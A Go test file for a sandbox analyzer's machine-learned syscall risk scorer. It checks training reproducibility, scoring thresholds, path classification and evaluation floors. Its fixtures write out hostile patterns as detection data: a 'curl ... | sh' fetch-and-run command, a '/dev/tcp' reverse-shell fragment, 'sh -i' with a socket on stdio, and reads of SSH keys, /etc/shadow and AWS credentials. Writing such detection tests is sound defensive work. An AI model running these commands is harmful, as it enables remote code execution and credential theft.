package risk

import (
	"bytes"
	"flag"
	"math"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/archangel-sandbox/archangel/analyzer"
)

var update = flag.Bool("update", false, "retrain on testdata/events.jsonl.gz and rewrite model.bin")

const datasetFile = "testdata/events.jsonl.gz"

var (
	dataOnce sync.Once
	dataRecs []Record
	dataErr  error
)

func dataset(t testing.TB) []Record {
	t.Helper()
	dataOnce.Do(func() { dataRecs, dataErr = ReadDataset(datasetFile) })
	if dataErr != nil {
		t.Fatalf("read %s: %v (regenerate with `make riskdata`)", datasetFile, dataErr)
	}
	return dataRecs
}

// TestEmbeddedModelIsTrained checks that model.bin is what Train makes of
// the committed dataset (go test ./analyzer/risk -update rewrites it).
func TestEmbeddedModelIsTrained(t *testing.T) {
	m := Train(dataset(t), DefaultTrainConfig)
	if *update {
		b, err := m.MarshalBinary()
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile("model.bin", b, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("wrote model.bin: threshold %.4g, platt a=%.4g b=%.4g", m.threshold, m.a, m.b)
		return
	}
	d := Default()
	// Float arithmetic may differ in the last bits where a compiler fuses
	// multiply-adds (arm64): compare with a tolerance.
	close := func(x, y, tol float64) bool { return math.Abs(x-y) <= tol*math.Max(1, math.Abs(y)) }
	if !close(d.a, m.a, 1e-4) || !close(d.b, m.b, 1e-4) || !close(d.threshold, m.threshold, 1e-4) {
		t.Fatalf("embedded calibration (a=%g b=%g threshold=%g) differs from training (a=%g b=%g threshold=%g): run go test ./analyzer/risk -update",
			d.a, d.b, d.threshold, m.a, m.b, m.threshold)
	}
	for i := range m.w {
		if !close(float64(d.w[i]), float64(m.w[i]), 1e-3) {
			t.Fatalf("embedded weight %d = %g, training gives %g: run go test ./analyzer/risk -update", i, d.w[i], m.w[i])
		}
	}
	if !bytes.Equal(d.prev, m.prev) {
		t.Fatal("embedded prevalence table differs from training: run go test ./analyzer/risk -update")
	}
}

func TestModelRoundTrip(t *testing.T) {
	b, err := Default().MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b, embedded) {
		t.Fatal("model.bin does not round-trip through UnmarshalModel and MarshalBinary")
	}
	for _, tc := range []struct {
		name string
		data []byte
	}{
		{"empty", nil},
		{"bad magic", []byte("ARCHANGEL-RISK/0\n")},
		{"truncated header", embedded[:len(modelMagic)+10]},
		{"truncated weights", embedded[:len(embedded)/2]},
		{"trailing bytes", append(append([]byte(nil), embedded...), 0)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if m, err := UnmarshalModel(tc.data); err == nil {
				t.Fatalf("UnmarshalModel accepted it: %+v", m.threshold)
			}
		})
	}
}

var (
	procPython = analyzer.Process{PID: 4242, TID: 4242, PPID: 4200, Exe: "/usr/bin/python3.11", Comm: "python3"}
	procBash   = analyzer.Process{PID: 4243, TID: 4243, PPID: 4200, Exe: "/usr/bin/bash", Comm: "bash"}
	procLs     = analyzer.Process{PID: 4245, TID: 4245, PPID: 4243, Exe: "/usr/bin/ls", Comm: "ls"}
	procDrop   = analyzer.Process{PID: 4244, TID: 4244, PPID: 4200, Exe: "/tmp/.cache/upd", Comm: "upd"}
)

func openCall(p analyzer.Process, path string) analyzer.Call {
	return analyzer.Call{Nr: 257, Name: "openat", Kind: analyzer.KindOpen, Access: analyzer.AccessRead, Path: path, Flags: 0o2000000, Process: p}
}

// TestScoreHandMade scores hand-built calls with the embedded model:
// hostile shapes at or above its threshold, ordinary calls below.
func TestScoreHandMade(t *testing.T) {
	m := Default()
	fromBash := Context{ParentExe: "/usr/bin/bash"}
	above := []struct {
		name string
		c    analyzer.Call
		ctx  Context
	}{
		{"credential read by a dropped program", openCall(procDrop, "/home/user/.ssh/id_rsa"), fromBash},
		{"/etc/shadow read by a dropped program", openCall(procDrop, "/etc/shadow"), fromBash},
		{"mprotect RWX", analyzer.Call{Nr: 10, Name: "mprotect", Args: [6]uint64{0x7f0000000000, 4096, 7}, Process: procDrop}, fromBash},
		{"anonymous RWX mapping", analyzer.Call{Nr: 9, Name: "mmap", Args: [6]uint64{0, 8192, 7, 0x22, math.MaxUint64, 0}, Process: procDrop}, fromBash},
		{"reverse-shell exec: sh -i with a socket on stdio", analyzer.Call{Nr: 59, Name: "execve", Kind: analyzer.KindExec, Access: analyzer.AccessExec,
			Path: "/bin/sh", Argv: []string{"sh", "-i"}, Process: procDrop}, Context{ParentExe: "/usr/bin/bash", StdioSocket: true}},
		{"exec of a memfd", analyzer.Call{Nr: 322, Name: "execveat", Kind: analyzer.KindExec, Access: analyzer.AccessExec,
			Path: "/memfd: (deleted)", Argv: []string{"[kworker/0:1]"}, Process: procDrop}, fromBash},
		{"unshare user+mount namespaces", analyzer.Call{Nr: 272, Name: "unshare", Args: [6]uint64{0x10020000}, Process: procPython}, fromBash},
		{"finit_module", analyzer.Call{Nr: 313, Name: "finit_module", Args: [6]uint64{3}, Process: procPython}, fromBash},
	}
	below := []struct {
		name string
		c    analyzer.Call
		ctx  Context
	}{
		{"libc opened read-only by ls", openCall(procLs, "/usr/lib/x86_64-linux-gnu/libc.so.6"), Context{ParentExe: "/usr/bin/bash", Seen: true}},
		{"libc opened read-only by ls, unseen", openCall(procLs, "/usr/lib/x86_64-linux-gnu/libc.so.6"), fromBash},
		{"stat of the working directory", analyzer.Call{Nr: 262, Name: "newfstatat", Kind: analyzer.KindStat, Access: analyzer.AccessRead,
			Path: "/home/user/src/proj", Process: procBash}, Context{ParentExe: "/usr/sbin/sshd"}},
		{"ls started by bash", analyzer.Call{Nr: 59, Name: "execve", Kind: analyzer.KindExec, Access: analyzer.AccessExec,
			Path: "/usr/bin/ls", Argv: []string{"ls", "-l"}, Process: procBash}, Context{ParentExe: "/usr/sbin/sshd", Seen: true}},
		{"python connects to loopback", analyzer.Call{Nr: 42, Name: "connect", Kind: analyzer.KindConnect,
			Addr: &analyzer.SockAddr{Family: 2, Addr: netip.MustParseAddrPort("127.0.0.1:8000")}, Process: procPython}, Context{ParentExe: "/usr/bin/bash", Seen: true}},
	}
	for _, tc := range above {
		t.Run("hostile/"+tc.name, func(t *testing.T) {
			if s := m.Score(&tc.c, &tc.ctx); s < m.Threshold() {
				t.Errorf("score %.4f < threshold %.4f; top features %v", s, m.Threshold(), m.Explain(&tc.c, &tc.ctx))
			}
		})
	}
	for _, tc := range below {
		t.Run("ordinary/"+tc.name, func(t *testing.T) {
			if s := m.Score(&tc.c, &tc.ctx); s >= m.Threshold() {
				t.Errorf("score %.4f >= threshold %.4f; top features %v", s, m.Threshold(), m.Explain(&tc.c, &tc.ctx))
			}
		})
	}
}

// TestScoreFeatureDirection checks that the hostile part of a call raises
// its score for the same caller and context: the path, the protection, the
// descriptor state.
func TestScoreFeatureDirection(t *testing.T) {
	m := Default()
	ctx := Context{ParentExe: "/usr/bin/bash"}
	pairs := []struct {
		name         string
		plain, risky analyzer.Call
		riskyCtx     Context
	}{
		{"~/.ssh vs a source file", openCall(procPython, "/home/user/src/main.py"), openCall(procPython, "/home/user/.ssh/id_rsa"), ctx},
		{"/etc/shadow vs /etc/hostname", openCall(procBash, "/etc/hostname"), openCall(procBash, "/etc/shadow"), ctx},
		{"another process's mem vs own status", openCall(procPython, "/proc/4242/status"), openCall(procPython, "/proc/4100/mem"), ctx},
		// RW, not RX: in the benign data an RX mprotect is rarer than an
		// RWX one (node's JIT makes those), so novelty alone scores it
		// higher; adding X to a writable mapping is the comparison.
		{"RWX vs RW", analyzer.Call{Nr: 10, Name: "mprotect", Args: [6]uint64{0, 4096, 3}, Process: procPython},
			analyzer.Call{Nr: 10, Name: "mprotect", Args: [6]uint64{0, 4096, 7}, Process: procPython}, ctx},
		{"exec with a socket on stdio", analyzer.Call{Nr: 59, Name: "execve", Kind: analyzer.KindExec, Access: analyzer.AccessExec, Path: "/bin/sh", Argv: []string{"sh", "-i"}, Process: procPython},
			analyzer.Call{Nr: 59, Name: "execve", Kind: analyzer.KindExec, Access: analyzer.AccessExec, Path: "/bin/sh", Argv: []string{"sh", "-i"}, Process: procPython},
			Context{ParentExe: "/usr/bin/bash", StdioSocket: true}},
		{"ptrace of a non-descendant", analyzer.Call{Nr: 101, Name: "ptrace", Args: [6]uint64{16, 4300}, Process: procPython},
			analyzer.Call{Nr: 101, Name: "ptrace", Args: [6]uint64{16, 4100}, Process: procPython}, Context{ParentExe: "/usr/bin/bash"}},
	}
	for _, tc := range pairs {
		t.Run(tc.name, func(t *testing.T) {
			plainCtx := ctx
			if tc.name == "ptrace of a non-descendant" {
				plainCtx.TargetDescendant = true
			}
			p, r := m.Score(&tc.plain, &plainCtx), m.Score(&tc.risky, &tc.riskyCtx)
			if r <= p {
				t.Errorf("risky %.4f <= plain %.4f\n\trisky: %v\n\tplain: %v", r, p, m.Explain(&tc.risky, &tc.riskyCtx), m.Explain(&tc.plain, &plainCtx))
			}
		})
	}
}

func TestScoreAllocatesNothing(t *testing.T) {
	m := Default()
	calls := []analyzer.Call{
		openCall(procDrop, "/home/user/.ssh/id_rsa"),
		{Nr: 59, Name: "execve", Kind: analyzer.KindExec, Access: analyzer.AccessExec, Path: "/bin/sh",
			Argv: []string{"sh", "-c", "curl http://10.0.0.1:8080/x | sh", "-i"}, Process: procBash},
		{Nr: 42, Name: "connect", Kind: analyzer.KindConnect, Addr: &analyzer.SockAddr{Family: 2, Addr: netip.MustParseAddrPort("203.0.113.9:4444")}, Process: procPython},
		{Nr: 56, Name: "clone", Args: [6]uint64{0x10020000 | 0x11}, Process: procPython},
	}
	ctx := &Context{ParentExe: "/usr/bin/bash", Wrote: true}
	for i := range calls {
		if n := testing.AllocsPerRun(100, func() { m.Score(&calls[i], ctx) }); n != 0 {
			t.Errorf("%s: Score allocates %v times per call", calls[i].Name, n)
		}
	}
	if n := testing.AllocsPerRun(100, func() { m.Score(&calls[0], nil) }); n != 0 {
		t.Errorf("Score with a nil context allocates %v times per call", n)
	}
}

func TestClassify(t *testing.T) {
	for _, tc := range []struct {
		path string
		pid  int
		want pathClass
	}{
		{"", 1, pcNone},
		{"/home/user/.ssh/id_rsa", 1, pcCred},
		{"/root/.aws/credentials", 1, pcCred},
		{"/etc/shadow", 1, pcCred},
		{"/etc/ssh/ssh_host_ed25519_key", 1, pcCred},
		{"/etc/ssh/ssh_host_ed25519_key.pub", 1, pcEtc},
		{"/proc/99/mem", 7, pcProcMem},
		{"/proc/99/environ", 7, pcProcMem},
		{"/proc/99/cmdline", 7, pcProcOther},
		{"/proc/7/mem", 7, pcProcSelf},
		{"/proc/self/maps", 7, pcProcSelf},
		{"/proc/self/fd/3", 7, pcProcSelfFD},
		{"/proc/7/fd/3", 7, pcProcSelfFD},
		{"/proc/sys/kernel/osrelease", 7, pcProc},
		{"/proc/12x/mem", 7, pcProc},
		{"/memfd: (deleted)", 7, pcMemfd},
		{"/etc/ld.so.cache", 1, pcEtcCommon},
		{"/etc/hostname", 1, pcEtc},
		{"/usr/lib/x86_64-linux-gnu/libc.so.6", 1, pcLib},
		{"/lib/modules/6.18.0/kernel", 1, pcBoot},
		{"/usr/bin/ls", 1, pcBin},
		{"/usr/binx", 1, pcUsr},
		{"/tmp/x", 1, pcTmp},
		{"/tmpx", 1, pcOther},
		{"/dev/shm/x", 1, pcDevShm},
		{"/dev/null", 1, pcDevStd},
		{"/dev/sda", 1, pcDev},
		{"/home/user/src", 1, pcHome},
		{"/", 1, pcRootDir},
		{"relative/path", 1, pcRelative},
	} {
		if got := classify(tc.path, tc.pid); got != tc.want {
			t.Errorf("classify(%q, %d) = %s, want %s", tc.path, tc.pid, got, tc.want)
		}
	}
}

func TestArgClass(t *testing.T) {
	for _, tc := range []struct {
		c    analyzer.Call
		want string
	}{
		{openCall(procLs, "/etc/passwd"), "openat:etc-common:r"},
		{analyzer.Call{Nr: 257, Name: "openat", Kind: analyzer.KindOpen, Access: analyzer.AccessRead | analyzer.AccessWrite, Path: "/tmp/x"}, "openat:tmp:rw"},
		{analyzer.Call{Nr: 59, Name: "execve", Kind: analyzer.KindExec, Access: analyzer.AccessExec, Path: "/usr/bin/bash"}, "execve:bin:shell"},
		{analyzer.Call{Nr: 42, Name: "connect", Kind: analyzer.KindConnect, Addr: &analyzer.SockAddr{Family: 2, Addr: netip.MustParseAddrPort("127.0.0.1:8080")}}, "connect:inet:loopback:2"},
		{analyzer.Call{Nr: 42, Name: "connect", Kind: analyzer.KindConnect, Addr: &analyzer.SockAddr{Family: 1, Unix: "/run/x.sock"}}, "connect:unix:path:0"},
		{analyzer.Call{Nr: 10, Name: "mprotect", Args: [6]uint64{0, 0, 7}}, "mprotect:rwx"},
		{analyzer.Call{Nr: 9, Name: "mmap", Args: [6]uint64{0, 0, 3, 0x22}}, "mmap:rw:anon"},
		{analyzer.Call{Nr: 272, Name: "unshare", Args: [6]uint64{0x10020000}}, "unshare:newns+newuser"},
		{analyzer.Call{Nr: 56, Name: "clone", Args: [6]uint64{0x3d0f00}}, "clone:-"},
		{analyzer.Call{Nr: 101, Name: "ptrace", Args: [6]uint64{16}}, "ptrace:16"},
		{analyzer.Call{Nr: 33, Name: "dup2", Args: [6]uint64{3, 0}}, "dup2:stdio"},
		{analyzer.Call{Nr: 165, Name: "mount"}, "mount"},
	} {
		if got := ArgClass(&tc.c); got != tc.want {
			t.Errorf("ArgClass(%s %q) = %q, want %q", tc.c.Name, tc.c.Path, got, tc.want)
		}
	}
}

// TestDataset checks the committed dataset has what the evaluation needs.
func TestDataset(t *testing.T) {
	recs := dataset(t)
	benign := map[string]bool{}
	variants := map[string]map[string]bool{}
	for i := range recs {
		r := &recs[i]
		if !r.Hostile() {
			benign[r.Workload] = true
			continue
		}
		if variants[r.Technique] == nil {
			variants[r.Technique] = map[string]bool{}
		}
		variants[r.Technique][r.Workload] = true
	}
	for _, tech := range []string{"credread", "dropexec", "memfdexec", "modload", "ptrace", "revshell", "unshare", "wx"} {
		if len(variants[tech]) < 2 {
			t.Errorf("technique %s has %d variants, want 2 or more for leave-one-technique-out", tech, len(variants[tech]))
		}
	}
	if len(benign) < 12 {
		t.Errorf("%d benign workloads, want 12 or more (three folds)", len(benign))
	}
}

// TestEvaluateLOTO runs the leave-one-technique-out evaluation on the
// committed dataset and holds it to floors well below what it measured
// when the dataset was made (see scripts/riskdata/README.md), so that a
// change that breaks the features or the training fails here.
func TestEvaluateLOTO(t *testing.T) {
	rep := Evaluate(dataset(t), DefaultTrainConfig)
	var buf bytes.Buffer
	if err := rep.Print(&buf, false); err != nil {
		t.Fatal(err)
	}
	t.Log("\n" + buf.String())
	if rep.ROCAUC < 0.88 {
		t.Errorf("mean ROC AUC %.4f < 0.88", rep.ROCAUC)
	}
	if rep.PRAUC < 0.25 {
		t.Errorf("mean PR AUC %.4f < 0.25", rep.PRAUC)
	}
	if rep.VariantRecall < 0.5 {
		t.Errorf("mean variant recall at 1e-3 FPR %.3f < 0.5", rep.VariantRecall)
	}
	for _, tr := range rep.Techniques {
		if tr.ROCAUC < 0.75 {
			t.Errorf("%s: ROC AUC %.4f < 0.75", tr.Technique, tr.ROCAUC)
		}
	}
	if rep.HoldoutBenignAbove > rep.HoldoutBenignEvents/1000 {
		t.Errorf("threshold lets %d of %d held-out benign events through, want at most 1e-3", rep.HoldoutBenignAbove, rep.HoldoutBenignEvents)
	}
}

func BenchmarkScore(b *testing.B) {
	recs := dataset(b)
	si := newSeenIndex(recs)
	calls := make([]analyzer.Call, len(recs))
	ctxs := make([]Context, len(recs))
	for i := range recs {
		calls[i], ctxs[i] = recs[i].Call(si.seen(&recs[i]))
	}
	m := Default()
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		m.Score(&calls[i], &ctxs[i])
		if i++; i == len(calls) {
			i = 0
		}
	}
}

// FuzzScore: any decoded call scores to a probability without panicking,
// and ArgClass and Explain accept it.
func FuzzScore(f *testing.F) {
	f.Add(int32(257), uint8(analyzer.KindOpen), "/home/user/.ssh/id_rsa", "cat", uint64(0), uint64(7), "/usr/bin/cat", true)
	f.Add(int32(59), uint8(analyzer.KindExec), "/proc/12/fd/3", "[kthreadd] -i /dev/tcp/1.2.3.4/5", uint64(0x10020000), uint64(0), "/tmp/x", false)
	f.Add(int32(10), uint8(analyzer.KindOther), "", "", uint64(1), uint64(7), "", false)
	m := Default()
	f.Fuzz(func(t *testing.T, nr int32, kind uint8, path, argv string, a0, a2 uint64, exe string, seen bool) {
		c := analyzer.Call{Nr: nr, Name: "fuzz", Kind: analyzer.Kind(kind % 11), Path: path, Argv: strings.Fields(argv),
			Args: [6]uint64{a0, a0, a2, a2, 0, 0}, Process: analyzer.Process{PID: int(a0 % 100000), Exe: exe}}
		if len(path) > 0 && path[0] == '1' {
			c.Addr = &analyzer.SockAddr{Family: 2, Addr: netip.AddrPortFrom(netip.AddrFrom4([4]byte{byte(a0), 0, 0, 1}), uint16(a2))}
		}
		ctx := Context{ParentExe: exe, Seen: seen, Wrote: !seen}
		s := m.Score(&c, &ctx)
		if !(s >= 0 && s <= 1) {
			t.Fatalf("score %v outside [0, 1]", s)
		}
		_ = ArgClass(&c)
		_ = m.Explain(&c, &ctx)
	})
}
